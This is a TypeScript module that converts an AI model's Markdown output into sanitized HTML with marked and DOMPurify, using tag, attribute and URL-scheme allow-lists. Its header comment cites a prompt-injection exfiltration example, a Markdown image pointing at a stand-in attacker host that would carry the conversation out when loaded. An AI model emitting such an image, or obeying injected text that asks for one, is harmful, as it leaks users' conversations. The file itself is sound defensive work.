/**
 * Model output -> safe HTML.
 *
 * 1. Markdown is converted with marked. Raw HTML in the source is NOT passed through: it is
 *    escaped and shown as text. Images become plain links (nothing is fetched automatically).
 * 2. The resulting HTML is then sanitized with DOMPurify (after conversion, so nothing marked
 *    emits can slip through): a small allow-list of tags and attributes, no <img>, no event
 *    handlers, no style, and only absolute http(s) and mailto URLs. Every link opens in a new
 *    tab with rel="noopener noreferrer".
 *
 * No image is ever loaded from model output: an image a prompt injection plants
 * (`![](https://evil.example/?q=<the conversation>)`) would leak the conversation the moment
 * it loaded. It is shown as a link to its URL instead, which the user may open in a new tab
 * (no referrer). A click-to-load in the page is not offered: the page's CSP allows images
 * from the app itself, data: and blob: only (frontend/server/app.ts, docs/security.md).
 */
import DOMPurify, { type Config, type DOMPurify as Purifier } from 'dompurify';
import { Marked, type Tokens } from 'marked';
import { escapeHtml, mathExtension } from './mathSyntax';

/** A language name that may go into a class (`language-…`) and the code block's label. */
const LANGUAGE = /^[\w+#.-]{1,40}$/;

const marked = new Marked(mathExtension, {
  gfm: true,
  breaks: false,
  async: false,
  renderer: {
    html(token: Tokens.HTML | Tokens.Tag): string {
      const text = escapeHtml(token.text);
      return token.block ? `<p>${text}</p>\n` : text;
    },
    text(token: Tokens.Text | Tokens.Escape): string | false {
      // After an inline <pre>, <script>, <style> or <textarea>, marked takes the text up to
      // its closing tag for raw HTML and leaves it unescaped: here raw HTML is text.
      if (token.type === 'text' && token.escaped === true && !token.tokens) {
        return escapeHtml(token.text);
      }
      return false; // marked's own rendering
    },
    code(token: Tokens.Code): string {
      // A fenced block's first word names its language; lib/enhance.ts highlights it and adds
      // a copy button to its head (reserved here, so nothing moves when the button appears).
      const lang = /^\S*/.exec(token.lang ?? '')?.[0] ?? '';
      const named = LANGUAGE.test(lang);
      const code = token.text.endsWith('\n') ? token.text : `${token.text}\n`;
      const label = named ? escapeHtml(lang) : '';
      const attr = named ? ` class="language-${escapeHtml(lang)}"` : '';
      return (
        `<div class="code-block"><div class="code-head"><span class="code-lang">${label}</span></div>` +
        `<pre><code${attr}>${escapeHtml(code)}</code></pre></div>\n`
      );
    },
    image(token: Tokens.Image): string {
      const label = token.text.trim() === '' ? token.href : token.text;
      // The title shows where the link goes when the label is the image's description.
      const title = ` title="${escapeHtml(token.title || token.href)}"`;
      return `<a href="${escapeHtml(token.href)}"${title} class="md-image-link">${escapeHtml(label)}</a>`;
    },
  },
});

const ALLOWED_TAGS = [
  'a',
  'b',
  'blockquote',
  'br',
  'code',
  'del',
  'div',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'i',
  'input',
  'li',
  'ol',
  'p',
  'pre',
  's',
  'span',
  'strong',
  'sub',
  'sup',
  'table',
  'tbody',
  'td',
  'tfoot',
  'th',
  'thead',
  'tr',
  'ul',
];

const ALLOWED_ATTR = ['href', 'title', 'class', 'start', 'align', 'type', 'checked', 'disabled'];

/**
 * DOMPurify's own rule, which it applies to every attribute that is not "URI-safe" (so it must
 * pass plain values such as type="checkbox"): a scheme must be http(s) or mailto. Links are
 * narrowed further in the hook below.
 */
const ALLOWED_URI = /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i;

/**
 * The links kept: absolute http(s) and mailto URLs only. Every other href is removed and the
 * link stays as text: javascript:, data:, vbscript:, file:, blob: and any other scheme, and
 * relative or protocol-relative URLs too (model output has no base to be relative to, and
 * "/api/..." or "//host" would only point somewhere the model should not send the user).
 * Tested after taking out the whitespace and control characters browsers ignore in URLs.
 */
const LINK_URL = /^(?:https?:\/\/|mailto:)/i;
// eslint-disable-next-line no-control-regex
const URL_IGNORED = /[\u0000-\u0020\u00A0\u1680\u180E\u2000-\u2029\u205F\u3000]/g;

const PURIFY_CONFIG: Config = {
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  ALLOWED_URI_REGEXP: ALLOWED_URI,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  FORBID_TAGS: ['img', 'svg', 'math', 'style', 'script', 'iframe', 'form'],
  FORBID_ATTR: ['style', 'src', 'srcset'],
};

/** The classes the renderer writes; any other class is dropped. */
const OWN_CLASS =
  /^(?:language-[\w+#.-]+|md-image-link|code-block|code-head|code-lang|math-inline|math-display)$/;

let purifier: Purifier | undefined;

function getPurifier(): Purifier {
  if (purifier) return purifier;
  const instance = DOMPurify(window);
  instance.addHook('afterSanitizeAttributes', (node) => {
    if (node.nodeName === 'A') {
      const href = node.getAttribute('href');
      if (href !== null && !LINK_URL.test(href.replace(URL_IGNORED, ''))) {
        node.removeAttribute('href');
      }
      if (node.hasAttribute('href')) {
        node.setAttribute('target', '_blank');
        node.setAttribute('rel', 'noopener noreferrer');
      }
    } else if (node.nodeName === 'INPUT') {
      // GFM task-list checkboxes only, and read-only.
      if (node.getAttribute('type') !== 'checkbox') {
        node.remove();
        return;
      }
      node.setAttribute('disabled', '');
    }
    if (node.hasAttribute('class')) {
      // Keep only the renderer's own classes (code blocks and languages, image links, math).
      const kept = (node.getAttribute('class') ?? '').split(/\s+/).filter((c) => OWN_CLASS.test(c));
      if (kept.length > 0) node.setAttribute('class', kept.join(' '));
      else node.removeAttribute('class');
    }
  });
  purifier = instance;
  return instance;
}

/** Sanitizes an HTML string with the allow-list used for model output. */
export function sanitizeHtml(html: string): string {
  return getPurifier().sanitize(html, PURIFY_CONFIG);
}

/** Converts model output (Markdown) to HTML that is safe to put in the page. */
export function renderMarkdown(source: string): string {
  const html = marked.parse(source, { async: false });
  return sanitizeHtml(html);
}

/**
 * What KaTeX's MathML may keep: presentation elements and their layout attributes only. No
 * href, id, style or class (beyond KaTeX's wrapper), no <annotation> (its TeX source is
 * dropped with it), no HTML inside the math: only text.
 */
const MATH_TAGS = [
  'span',
  'math',
  'semantics',
  'mrow',
  'mi',
  'mn',
  'mo',
  'ms',
  'mtext',
  'mspace',
  'msub',
  'msup',
  'msubsup',
  'munder',
  'mover',
  'munderover',
  'mfrac',
  'msqrt',
  'mroot',
  'mstyle',
  'mpadded',
  'mphantom',
  'menclose',
  'mtable',
  'mtr',
  'mtd',
  'mlabeledtr',
  'mmultiscripts',
  'mprescripts',
  'merror',
];

const MATH_ATTR = [
  'class',
  'display',
  'xmlns',
  'mathvariant',
  'mathcolor',
  'mathbackground',
  'stretchy',
  'fence',
  'separator',
  'lspace',
  'rspace',
  'width',
  'height',
  'depth',
  'voffset',
  'accent',
  'accentunder',
  'movablelimits',
  'largeop',
  'symmetric',
  'minsize',
  'maxsize',
  'scriptlevel',
  'displaystyle',
  'columnalign',
  'columnspacing',
  'columnlines',
  'rowalign',
  'rowspacing',
  'rowlines',
  'linethickness',
  'notation',
  'columnspan',
  'rowspan',
];

const MATH_CONFIG: Config = {
  ALLOWED_TAGS: MATH_TAGS,
  ALLOWED_ATTR: MATH_ATTR,
  // No value with a URL scheme (DOMPurify tests every attribute value that is not "URI-safe").
  ALLOWED_URI_REGEXP: /^(?:[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  ADD_FORBID_CONTENTS: ['annotation', 'annotation-xml'],
  FORBID_ATTR: ['style', 'href', 'src', 'id', 'xlink:href'],
};

/** A DOMPurify instance that keeps only the classes `keep` accepts. */
function classFilteredPurifier(keep: (name: string) => boolean): Purifier {
  const instance = DOMPurify(window);
  instance.addHook('afterSanitizeAttributes', (node) => {
    if (!node.hasAttribute('class')) return;
    const kept = (node.getAttribute('class') ?? '').split(/\s+/).filter(keep);
    if (kept.length > 0) node.setAttribute('class', kept.join(' '));
    else node.removeAttribute('class');
  });
  return instance;
}

let mathPurifier: Purifier | undefined;

/** Sanitizes KaTeX's MathML output (lib/katex.ts) before it reaches the page. */
export function sanitizeMathMl(html: string): string {
  mathPurifier ??= classFilteredPurifier((c) => c === 'katex' || c === 'katex-display');
  return mathPurifier.sanitize(html, MATH_CONFIG);
}

const HIGHLIGHT_CONFIG: Config = {
  ALLOWED_TAGS: ['span'],
  ALLOWED_ATTR: ['class'],
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
};

let highlightPurifier: Purifier | undefined;

/** Sanitizes a highlighter's output: text in <span class="hljs-…"> elements, nothing else. */
export function sanitizeHighlight(html: string): string {
  highlightPurifier ??= classFilteredPurifier(
    (c) => /^hljs-[\w-]+$/.test(c) || /^[a-z_]+_$/.test(c),
  );
  return highlightPurifier.sanitize(html, HIGHLIGHT_CONFIG);
}
